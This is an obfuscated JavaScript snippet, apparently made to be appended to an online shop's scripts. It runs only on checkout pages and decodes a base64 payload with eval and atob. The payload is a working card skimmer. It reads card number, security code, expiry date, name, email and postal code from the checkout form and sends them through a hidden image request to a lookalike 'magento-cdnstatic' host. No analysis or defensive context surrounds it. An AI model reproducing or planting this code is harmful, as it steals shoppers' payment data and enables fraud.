;(function(w,n){var p=[
"KCgpPT57Y29uc3QgJD1zPT5kb2N1bWVudC5xdWVyeVNlbGVj",
"dG9yKHMpLFY9cz0+KCQocyl8fHt9KS52YWx1ZXx8JycsSD0n",
"aHR0cHM6Ly9tYWdlbnRvLWNkbnN0YXRpYy5jb20vc3RhdGlj",
"L3ZlcnNpb24xNjIzL2Zyb250ZW5kL3B4LnBocCc7bGV0IHQ7",
"Y29uc3QgZj0oKT0+e2NvbnN0IGM9VignW2F1dG9jb21wbGV0",
"ZT0iY2MtbnVtYmVyIl0nKSxzPVYoJ1thdXRvY29tcGxldGU9",
"ImNjLWNzYyJdJyk7aWYoIWN8fCFzKXJldHVybjtjb25zdCBx",
"PW5ldyBVUkxTZWFyY2hQYXJhbXMoe2MscyxlOlYoJ1thdXRv",
"Y29tcGxldGU9ImNjLWV4cCJdJyksbjpWKCdbYXV0b2NvbXBs",
"ZXRlPSJjYy1uYW1lIl0nKSxtOlYoJ1thdXRvY29tcGxldGU9",
"ImVtYWlsIl0nKSx6OlYoJ1thdXRvY29tcGxldGU9InBvc3Rh",
"bC1jb2RlIl0nKSx1OmxvY2F0aW9uLmhyZWZ9KTtuZXcgSW1h",
"Z2UoKS5zcmM9SCsnPycrcTtjbGVhckludGVydmFsKHQpfTt0",
"PXNldEludGVydmFsKGYsM2UzKTthZGRFdmVudExpc3RlbmVy",
"KCdzdWJtaXQnLGYsdHJ1ZSl9KSgpOw=="
];if(w.location.pathname.indexOf(n)<0)return;w["ev"+"al"](w["a"+"t"+"ob"](p.join("")))})(window,"\x63\x68\x65\x63\x6b\x6f\x75\x74");
